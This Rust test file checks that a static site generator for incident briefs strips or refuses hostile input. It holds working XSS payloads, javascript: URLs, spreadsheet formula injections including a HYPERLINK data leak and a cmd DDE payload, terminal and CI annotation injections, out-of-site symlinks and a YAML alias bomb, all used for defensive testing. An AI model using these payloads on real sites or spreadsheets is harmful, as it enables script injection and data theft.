//! Hostile input: briefs, profiles and pages pasted from anywhere must not
//! run script in a reader's browser, and `check` says where each unsafe
//! address is. (Issue 12; the other kinds of hostile input are added here
//! as they are handled.)

use crate::browser::{StaticServer, dump_dom};
use crate::harness::{MINIMAL_CONFIG, SiteTest};

/// Raw HTML that runs script, each piece marking the page if it ran. No
/// Markdown link here has a bad scheme, so the site builds (with warnings).
const RAW_HTML_ATTACKS: &str = concat!(
    "<script>document.documentElement.dataset.ran = 'script'</script>\n\n",
    "<img src=\"missing.png\" onerror=\"document.documentElement.dataset.ran = 'onerror'\">\n\n",
    "<svg onload=\"document.documentElement.dataset.ran = 'svg'\"></svg>\n\n",
    "<details open ontoggle=\"document.documentElement.dataset.ran = 'ontoggle'\"><summary>Kept</summary>Detail</details>\n\n",
    "<iframe srcdoc=\"<script>parent.document.documentElement.dataset.ran = 'iframe'</script>\"></iframe>\n\n",
    "<form action=\"https://example.org/steal\"><input name=q></form>\n\n",
    "<base href=\"https://example.org/\">\n\n",
    "<meta http-equiv=\"refresh\" content=\"0; url=https://example.org/\">\n\n",
    "<p style=\"background: url(https://example.org/track.png); text-align: center\">Styled</p>\n\n",
    "<table><tr><td>Cell<sup>1</sup></td></tr></table>\n",
);

fn hostile_site(config: &str) -> SiteTest {
    let site = SiteTest::new();
    site.file("site.yaml", config)
        .file(
            "content/briefs/hostile.md",
            &format!(
                "---\ntitle: Synthetic hostile brief\ndate: 2023-01-01\ncountry: NE\narmed_groups: [Synthetic Group]\n---\n{RAW_HTML_ATTACKS}"
            ),
        )
        .file("content/groups/synthetic-group.md", &format!("---\nname: Synthetic Group\n---\n{RAW_HTML_ATTACKS}"))
        .file("content/countries/niger.md", &format!("---\ncountry: NE\n---\n{RAW_HTML_ATTACKS}"))
        .file("content/about.md", &format!("---\ntitle: About\n---\n{RAW_HTML_ATTACKS}"));
    site
}

const PAGES: [&str; 4] =
    ["briefs/hostile/index.html", "groups/synthetic-group/index.html", "countries/ne/index.html", "about/index.html"];

#[test]
fn raw_html_that_runs_script_is_removed_by_default_and_check_says_so() {
    let site = hostile_site(MINIMAL_CONFIG);
    let run = site.build().success();
    let out = run.stderr();
    // One warning per removed piece, at its line: the brief's body starts on line 7.
    assert!(out.contains("warning[raw-html-removed]: raw HTML `<script>` is removed from the page\n  --> content/briefs/hostile.md:7:1\n"), "{out}");
    assert!(out.contains("warning[raw-html-removed]: the attribute `onerror` of `<img>` is removed from the page\n  --> content/briefs/hostile.md:9:1\n"), "{out}");
    for file in ["content/about.md", "content/groups/synthetic-group.md", "content/countries/niger.md"] {
        assert!(out.contains(&format!("--> {file}:")), "{file} is checked too: {out}");
    }
    for rel in PAGES {
        let html = site.read(rel);
        for gone in [
            "<script>document",
            "onerror",
            "onload",
            "ontoggle",
            "<iframe",
            // The header's search form is the site's own; the pasted one is gone.
            "example.org/steal",
            "<base",
            "http-equiv",
            "background",
            // The pages' own maps and timelines are SVG; the hostile one is gone.
            "<svg onload",
        ] {
            assert!(!html.contains(gone), "{rel} keeps {gone}");
        }
        let page = site.page(rel);
        assert_eq!(page.text("details:not(.figures) summary"), "Kept", "{rel}");
        assert_eq!(page.attrs("main p[style]", "style"), ["text-align:center"], "{rel}");
        assert_eq!(page.texts("main td sup"), ["1"], "{rel}");
    }
    // With --strict, removals are errors: nothing is published.
    let strict = site.run(&["check", "--strict"]);
    assert_eq!(strict.code(), 1, "{}", strict.stderr());
}

#[test]
fn no_hostile_piece_runs_in_a_browser() {
    let site = hostile_site(MINIMAL_CONFIG);
    site.build().success();
    let server = StaticServer::start(&site.public());
    let profile = tempfile::tempdir().unwrap();
    for rel in PAGES {
        let dom = dump_dom(&format!("http://127.0.0.1:{}/{rel}", server.port), profile.path());
        assert!(!dom.contains("data-ran"), "script ran on {rel}: {dom}");
        assert!(dom.contains("Synthetic") || dom.contains("About"), "{rel} did not load: {dom}");
    }
}

#[test]
fn escape_shows_raw_html_as_text_and_allow_keeps_it() {
    let escaped = hostile_site("title: Test\nmarkdown:\n  raw_html: escape\n");
    let run = escaped.build().success();
    assert!(!run.stderr().contains("raw-html-removed"), "{}", run.stderr());
    let html = escaped.read("briefs/hostile/index.html");
    assert!(html.contains("&lt;script&gt;document.documentElement.dataset.ran"), "{html}");
    assert!(!html.contains("<script>document"), "{html}");

    let allowed = hostile_site("title: Test\nmarkdown:\n  raw_html: allow\n");
    let run = allowed.build().success();
    assert!(!run.stderr().contains("raw-html-removed"), "{}", run.stderr());
    assert!(allowed.read("briefs/hostile/index.html").contains("<script>document.documentElement.dataset.ran"));

    let unknown = hostile_site("title: Test\nmarkdown:\n  raw_html: strip\n");
    let run = unknown.check();
    assert_eq!(run.code(), 1);
    assert!(run.stderr().contains("site.yaml:3:"), "{}", run.stderr());
    assert!(run.stderr().contains("sanitize"), "the error lists the choices: {}", run.stderr());
}

#[test]
fn unsafe_addresses_are_errors_at_their_lines_in_every_mode() {
    for mode in ["sanitize", "escape", "allow"] {
        let site = SiteTest::new();
        site.file("site.yaml", &format!("title: Test\nmarkdown:\n  raw_html: {mode}\n")).file(
            "content/briefs/links.md",
            concat!(
                "---\ntitle: Synthetic links\ndate: 2023-01-01\ncountry: NE\n---\n",
                "[a](javascript:alert(1)) and ![b](JaVaScRiPt:alert(2))\n",
                "\n",
                "[c](&#106;avascript:alert(3)) [d][ref] <vbscript:x>\n",
                "\n",
                "[ref]: data:text/html,<script>alert(4)</script>\n",
                "\n",
                "Fine: [e](https://example.org/) [f](/briefs/links/) [g](mailto:desk@example.org) [h](#top)\n",
            ),
        );
        let run = site.check();
        assert_eq!(run.code(), 1, "{mode}: {}", run.stderr());
        let out = run.stderr();
        for at in ["6:1", "6:30", "8:1", "8:31", "8:40"] {
            assert!(out.contains(&format!("--> content/briefs/links.md:{at}\n")), "{mode}: no error at {at}: {out}");
        }
        assert_eq!(out.matches("error[unsafe-address]").count(), 5, "{mode}: {out}");
        assert!(!site.public().exists(), "{mode}: check writes nothing");
    }
    // In raw HTML too, unless it is shown as text.
    let site = SiteTest::new();
    site.file(
        "content/briefs/html.md",
        "---\ntitle: Synthetic links\ndate: 2023-01-01\ncountry: NE\n---\nText <a href=\"java&#x09;script:x\">y</a>\n",
    );
    let run = site.check();
    assert!(run.stderr().contains("error[unsafe-address]: `java\tscript:x` is neither"), "{}", run.stderr());
    assert!(run.stderr().contains("--> content/briefs/html.md:6:6\n"), "{}", run.stderr());
}

#[test]
fn site_addresses_and_aliases_are_checked_at_their_lines() {
    let site = SiteTest::new();
    site.file("site.yaml", "title: Test\nbase_url: javascript:alert(1)//\n");
    let run = site.check();
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert!(run.stderr().contains("--> site.yaml:2:11\n"), "{}", run.stderr());

    site.file("site.yaml", "title: Test\ncname: https://briefs.example.org/\n");
    let run = site.check();
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert!(run.stderr().contains("is not a domain name\n  --> site.yaml:2:8\n"), "{}", run.stderr());

    site.file("site.yaml", MINIMAL_CONFIG).file(
        "content/briefs/x.md",
        "---\ntitle: Synthetic\ndate: 2023-01-01\ncountry: NE\naliases: [/ok/, //evil.example/, \"/a\\\"><script>/\", /a/../../b/, /briefs//victim/index.html, /groups//]\n---\n",
    );
    let run = site.check();
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert_eq!(run.stderr().matches("error[invalid-alias]").count(), 5, "{}", run.stderr());
}

#[test]
fn csv_cells_that_spreadsheets_would_run_are_plain_text() {
    let site = SiteTest::new();
    site.file(
        "content/briefs/formula.md",
        concat!(
            "---\ntitle: Synthetic formulas\ndate: 2023-01-01\ncountry: NE\n",
            "summary: '=HYPERLINK(\"https://example.org/?leak=\"&A1, \"Click\")'\n",
            "location: +cmd|' /C calc'!A0\n",
            "armed_groups: ['@SUM(1+1)']\n",
            "targets: [\"\\tTabbed target\"]\n",
            "sub_event_type: '-2+3'\n",
            "tags: [\"=1+1\"]\n",
            "coordinates: {lat: -13.5, lon: -1.25}\n",
            "---\n",
        ),
    );
    site.build().success();
    for rel in ["data/incidents.csv", "countries/ne/incidents.csv", "groups/sum-1-1/incidents.csv"] {
        let mut reader = csv::ReaderBuilder::new().from_path(site.public().join(rel)).unwrap();
        let header = reader.headers().unwrap().clone();
        let row = reader.records().nth(1).unwrap().unwrap(); // after the HXL row
        let cell = |name: &str| row.get(header.iter().position(|h| h == name).unwrap()).unwrap().to_string();
        assert_eq!(cell("notes"), "'=HYPERLINK(\"https://example.org/?leak=\"&A1, \"Click\")", "{rel}");
        assert_eq!(cell("location"), "'+cmd|' /C calc'!A0", "{rel}");
        assert_eq!(cell("actor1"), "'@SUM(1+1)", "{rel}");
        assert_eq!(cell("actor2"), "'\tTabbed target", "{rel}");
        assert_eq!(cell("sub_event_type"), "'-2+3", "{rel}");
        assert_eq!(cell("tags"), "'=1+1", "{rel}");
        // Numbers stay numbers.
        assert_eq!((cell("latitude").as_str(), cell("longitude").as_str()), ("-13.5", "-1.25"), "{rel}");
    }
}

#[test]
fn control_characters_are_refused_at_their_place() {
    let site = SiteTest::new();
    site.file(
        "content/briefs/raw.md",
        "---\ntitle: Synthetic\x1b[2J bell\x07\ndate: 2023-01-01\ncountry: NE\nlocation: a\rb\nsummary: one\u{1}\n---\nBody with NUL \0 here\n",
    );
    site.file(
        "content/briefs/escaped.md",
        "---\ntitle: \"Synthetic \\e[31m red\"\ndate: 2023-01-01\ncountry: NE\ntags: [\"ok\", \"bell \\a\"]\nsources: [{name: \"a \\x00 b\"}]\n---\n",
    );
    // Windows line endings and tabs are fine.
    site.file(
        "content/briefs/crlf.md",
        "---\r\ntitle: Synthetic\tCRLF\r\ndate: 2023-01-01\r\ncountry: NE\r\n---\r\nBody\r\n",
    );
    site.file("site.yaml", "title: \"Site \\e]0;owned\\a\"\n");
    let run = site.run(&["check", "--color", "never"]);
    assert_eq!(run.code(), 1, "{}", run.stderr());
    let out = run.stderr();
    assert!(
        !out.contains('\x1b') && !out.contains('\x07') && !out.contains('\0') && !out.contains('\r'),
        "raw control characters printed: {out:?}"
    );
    assert!(out.contains("--> site.yaml:1:8\n"), "{out}");
    for at in [
        "raw.md:2:17",
        "raw.md:2:26",
        "raw.md:5:12",
        "raw.md:6:13",
        "raw.md:8:15",
        "escaped.md:2:8",
        "escaped.md:5:14",
        "escaped.md:6:18",
    ] {
        assert!(out.contains(&format!("--> content/briefs/{at}\n")), "nothing at {at}: {out}");
    }
    assert!(!out.contains("crlf.md"), "{out}");
    assert!(out.contains("U+001B (escape)"), "{out}");
}

#[test]
fn values_cannot_start_lines_of_their_own_in_messages() {
    let site = SiteTest::new();
    site.file(
        "content/briefs/x.md",
        "---\ntitle: Synthetic\ndate: 2023-01-01\ncountry: NE\narmed_groups: [\"A\\n::error file=README.md,line=1::Injected\\n\\u202eevil\"]\n---\n",
    );
    for format in ["human", "github", "json"] {
        let run = site.run(&["check", "--format", format]);
        assert_eq!(run.code(), 0, "{}", run.stderr());
        let out = run.stdout() + &run.stderr();
        assert!(out.contains("Injected"), "{format}: {out}");
        for line in out.lines() {
            assert!(!line.starts_with("::error file=README.md"), "{format}: a value started a line: {out}");
        }
        assert!(!out.contains('\u{202e}'), "{format}: bidi control printed raw: {out}");
    }
}

#[test]
fn extra_fields_stay_private_unless_published() {
    let site = SiteTest::new();
    site.file(
        "content/briefs/x.md",
        "---\ntitle: Synthetic\ndate: 2023-01-01\ncountry: NE\nextra: {internal_note: do-not-publish-me, desk: west-desk}\n---\n",
    )
    .file("templates/brief.html", "<p>{{ brief.extra.internal_note }} {{ brief.extra.desk }}</p>");
    site.build().success();
    for rel in site.output_files() {
        if rel.starts_with("briefs/x/") {
            continue;
        }
        let text = String::from_utf8_lossy(&std::fs::read(site.public().join(&rel)).unwrap()).into_owned();
        assert!(!text.contains("do-not-publish-me") && !text.contains("west-desk"), "{rel} publishes extra: {text}");
    }
    // The site's own templates see every field.
    assert!(site.read("briefs/x/index.html").contains("do-not-publish-me west-desk"));

    site.file("site.yaml", "title: Test\npublish_extra: [desk]\n");
    site.build().success();
    let json: serde_json::Value = serde_json::from_str(&site.read("data/incidents.json")).unwrap();
    assert_eq!(json[0]["extra"], serde_json::json!({"desk": "west-desk"}));
    let feed: serde_json::Value = serde_json::from_str(&site.read("feed.json")).unwrap();
    assert_eq!(feed["items"][0]["_incident"]["extra"], serde_json::json!({"desk": "west-desk"}));
    assert!(!site.read("data/incidents.json").contains("do-not-publish-me"));
}

const SYNTHETIC_FRONT: &str = "---\ntitle: Synthetic\ndate: 2023-01-01\ncountry: NE\n";

#[test]
fn ten_thousand_identical_headings_get_distinct_ids_promptly() {
    let site = SiteTest::new();
    site.file(
        "content/briefs/x.md",
        &format!("{SYNTHETIC_FRONT}---\n## Toll {{#h-3}}\n\n{}", "## h\n\n".repeat(10_000)),
    );
    let run = site.run_within(30, &["build"]);
    let (code, stderr) = (run.code(), run.stderr());
    assert_eq!(code, 0, "{stderr}");
    let ids = crate::harness::SiteTest::page(&site, "briefs/x/index.html").attrs(".body h2[id]", "id");
    assert_eq!(ids.len(), 10_001);
    assert_eq!(ids.iter().collect::<std::collections::HashSet<_>>().len(), 10_001, "ids repeat");
    assert_eq!(&ids[..5], ["h-3", "h", "h-1", "h-2", "h-4"]);
}

#[test]
fn thousands_of_problems_in_one_file_print_a_bounded_report() {
    let site = SiteTest::new();
    let links = vec!["[x](/nope/)"; 5000].join(" ");
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}---\n{links}\n"));
    let run = site.run_within(60, &["check"]);
    let (code, stderr) = (run.code(), run.stderr());
    assert_eq!(code, 1, "{}", &stderr[..stderr.len().min(2000)]);
    assert_eq!(stderr.matches("error[broken-link]").count(), 20, "at most 20 problems of a file are shown");
    assert!(stderr.contains("... and 4980 more problems in content/briefs/x.md"), "{stderr}");
    assert!(stderr.contains("5000 errors, 0 warnings in 1 file"), "the summary counts them all");
    assert!(stderr.len() < 20_000, "{} bytes printed", stderr.len());
    // Each quoted line is cut around its column.
    assert!(stderr.lines().all(|l| l.chars().count() < 200), "a long line was quoted whole");
    // JSON lists every one.
    let json = site.run(&["check", "--format", "json"]);
    assert_eq!(json.stdout().lines().count(), 5000);
}

#[test]
fn a_long_line_is_quoted_around_the_problem() {
    let site = SiteTest::new();
    site.file(
        "content/briefs/x.md",
        &format!("{SYNTHETIC_FRONT}---\n{}[x](/nope/) and more\n", "word ".repeat(200_000)),
    );
    let run = site.check();
    assert_eq!(run.code(), 1);
    let quoted = run.stderr().lines().find(|l| l.starts_with("6 | ")).map(str::to_string).expect("the line is quoted");
    assert!(quoted.starts_with("6 | …word") && quoted.contains("[x](/nope/) and more"), "{quoted}");
    assert!(quoted.chars().count() < 200, "{quoted}");
    let caret = run.stderr().lines().skip_while(|l| !l.starts_with("6 | ")).nth(1).unwrap().to_string();
    assert_eq!(
        caret.find('^').map(|i| caret[..i].chars().count()),
        quoted.find("[x]").map(|i| quoted[..i].chars().count())
    );
}

#[test]
fn a_brief_naming_thousands_of_groups_is_refused() {
    let site = SiteTest::new();
    let groups: Vec<String> = (0..2500).map(|i| format!("Synthetic Group {i}")).collect();
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}armed_groups: [{}]\n---\n", groups.join(", ")));
    let run = site.run_within(60, &["build"]);
    let (code, stderr) = (run.code(), run.stderr());
    assert_eq!(code, 1, "{}", &stderr[..stderr.len().min(2000)]);
    assert!(stderr.contains("error[too-many-groups]: this brief names 2500 armed groups; a brief may name at most 50\n  --> content/briefs/x.md:5:15"), "{}", &stderr[..stderr.len().min(2000)]);
    assert!(!site.public().exists(), "nothing is written");
}

#[test]
fn yaml_aliases_that_expand_without_end_are_refused() {
    let site = SiteTest::new();
    let mut front = String::from("extra:\n  a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..9 {
        front.push_str(&format!("  a{i}: &a{i} [{}]\n", vec![format!("*a{}", i - 1); 10].join(", ")));
    }
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}{front}---\n"));
    let run = site.run_within(60, &["check"]);
    let (code, stderr) = (run.code(), run.stderr());
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("aliases (`*name`) here repeat each other"), "{stderr}");
}

#[test]
fn links_out_of_the_site_are_refused() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.md"), "---\ntitle: TOP-SECRET\n---\nTOP-SECRET\n").unwrap();
    std::fs::write(outside.path().join("secret.html"), "TOP-SECRET").unwrap();
    std::fs::write(outside.path().join("secret.txt"), "TOP-SECRET").unwrap();
    for (link, target) in [
        ("content/leak.md", "secret.md"),
        ("content/leaked", ""),
        ("templates/page.html", "secret.html"),
        ("static/leak.txt", "secret.txt"),
    ] {
        let site = SiteTest::new();
        site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}---\n"));
        let link_path = site.root().join(link);
        std::fs::create_dir_all(link_path.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(outside.path().join(target), &link_path).unwrap();
        let run = site.build();
        assert_eq!(run.code(), 1, "{link}: {}", run.stderr());
        assert!(
            run.stderr().contains(&format!(
                "error[link-outside-site]: this symbolic link leads out of the site\n  --> {link}\n"
            )),
            "{link}: {}",
            run.stderr()
        );
        assert!(!site.public().exists(), "{link}: nothing is published");
    }
    // A link that stays inside the site is followed.
    let site = SiteTest::new();
    site.file("shared/x.md", &format!("{SYNTHETIC_FRONT}---\nShared.\n"));
    std::os::unix::fs::symlink(site.root().join("shared/x.md"), site.root().join("content/briefs/x.md")).unwrap();
    site.build().success();
    assert!(site.read("briefs/x/index.html").contains("Shared."));
}

#[test]
fn names_that_make_no_address_are_refused() {
    let site = SiteTest::new();
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}armed_groups: [\"!!!\", Real Group]\n---\n"));
    site.file("content/briefs/!!!.md", &format!("{SYNTHETIC_FRONT}---\n"));
    site.file("content/___/page.md", "---\ntitle: Synthetic page\n---\n");
    let run = site.build();
    assert_eq!(run.code(), 1, "{}", run.stderr());
    let out = run.stderr();
    assert!(out.contains("error[invalid-slug]: armed group `!!!` has no letters or digits to make an address from\n  --> content/briefs/x.md:5:16"), "{out}");
    assert!(out.contains("error[invalid-slug]: the file name `!!!` has no letters or digits"), "{out}");
    assert!(out.contains("error[invalid-slug]: a folder of `___/page.md` has no letters or digits"), "{out}");
    assert!(!site.public().exists());
}

#[test]
fn values_that_xml_cannot_hold_are_refused_and_the_rest_keep_feeds_well_formed() {
    let site = SiteTest::new();
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}summary: \"ok \\uFFFE\"\n---\n"));
    let run = site.check();
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert!(run.stderr().contains("`summary` holds a control character, U+FFFE"), "{}", run.stderr());

    let site = SiteTest::new();
    site.file("site.yaml", "title: \"Site ]]> & <b>\"\nbase_url: https://example.org/\n").file(
        "content/briefs/x.md",
        "---\ntitle: \"]]> <script>alert(1)</script> & &amp; \\u00A0\"\ndate: 2023-01-01\ncountry: NE\nsummary: \"<![CDATA[ x ]]>\"\narmed_groups: [\"A & B <c>\"]\ntags: [\"]]>\"]\n---\n<b>x</b> ]]> &\n",
    );
    site.build().success();
    for feed in ["atom.xml", "countries/ne/atom.xml", "groups/a-b-c/atom.xml", "sitemap.xml"] {
        let out = std::process::Command::new("xmllint")
            .args(["--noout"])
            .arg(site.public().join(feed))
            .output()
            .expect("xmllint (Debian's libxml2-utils; scripts/test installs it)");
        assert!(out.status.success(), "{feed}: {}", String::from_utf8_lossy(&out.stderr));
    }
    for json in ["feed.json", "data/incidents.json", "data/incidents.geojson"] {
        serde_json::from_str::<serde_json::Value>(&site.read(json)).unwrap_or_else(|e| panic!("{json}: {e}"));
    }
}

#[test]
fn raw_html_costs_linear_time_and_deep_nesting_is_refused() {
    let site = SiteTest::new();
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}---\n<div>\n{}", "<br>\n".repeat(200_000)));
    site.file("content/briefs/y.md", &format!("{SYNTHETIC_FRONT}---\n<div>{}</div>\n", "<br>".repeat(400_000)));
    let run = site.run_within(60, &["build"]);
    let (code, stderr) = (run.code(), run.stderr());
    assert_eq!(code, 0, "{}", &stderr[..stderr.len().min(2000)]);

    let site = SiteTest::new();
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}---\nText\n\n{}\n", "<div>".repeat(50_000)));
    let run = site.run_within(60, &["build"]);
    let (code, stderr) = (run.code(), run.stderr());
    assert_eq!(code, 1, "{}", &stderr[..stderr.len().min(2000)]);
    assert!(stderr.contains("error[html-too-deep]: raw HTML here is nested more than 100 elements deep\n  --> content/briefs/x.md:8:501\n"), "{}", &stderr[..stderr.len().min(2000)]);
}

#[test]
fn impossible_dates_and_counts_are_refused_at_their_line() {
    let site = SiteTest::new();
    site.file("content/briefs/x.md", "---\ntitle: Synthetic\ndate: \"-001-01-01\"\ncountry: NE\n---\n");
    site.file("content/briefs/y.md", "---\ntitle: Synthetic\ndate: 2023-01-01\ncountry: NE\nfatalities: 9223372036854775807\ninjured: 20000000\n---\n");
    let run = site.check();
    assert_eq!(run.code(), 1, "{}", run.stderr());
    let out = run.stderr();
    assert!(out.contains("error[invalid-date]") && out.contains("--> content/briefs/x.md:3:7\n"), "{out}");
    assert!(out.contains("9223372036854775807 is more people than one incident can count"), "{out}");
    assert!(out.contains("--> content/briefs/y.md:6:10\n"), "{out}");
    assert!(!out.contains("templates/"), "the brief is blamed, not a template: {out}");
}

#[test]
fn json_diagnostics_escape_every_control_character() {
    let site = SiteTest::new();
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}---\n"));
    site.file("content/notes\u{9b}31m\u{7f}.txt", "not markdown");
    let run = site.run(&["check", "--format", "json"]);
    let out = run.stdout();
    assert!(out.contains("not-markdown"), "{out}");
    assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{out:?}");
    assert!(out.contains("\\u009b31m\\u007f.txt"), "{out}");
}

#[test]
fn a_base_url_with_a_double_slash_in_its_path_is_refused() {
    // Found by the site_config fuzz target: links would have left the site.
    let site = SiteTest::new();
    site.file("content/briefs/x.md", &format!("{SYNTHETIC_FRONT}---\n"));
    site.file("site.yaml", "title: T\nbase_url: https://org.github.io/nnnnps://org.github.io/nnnn]\n");
    let run = site.check();
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert!(run.stderr().contains("is neither a web address nor a path\n  --> site.yaml:2:11"), "{}", run.stderr());
    site.file("site.yaml", "title: T\n");
    let run = site.run(&["build", "--base-url", "https://org.github.io//evil.example/"]);
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert!(
        run.stderr().contains("--base-url \"https://org.github.io//evil.example/\" is neither"),
        "{}",
        run.stderr()
    );
    assert!(!site.public().exists());
}
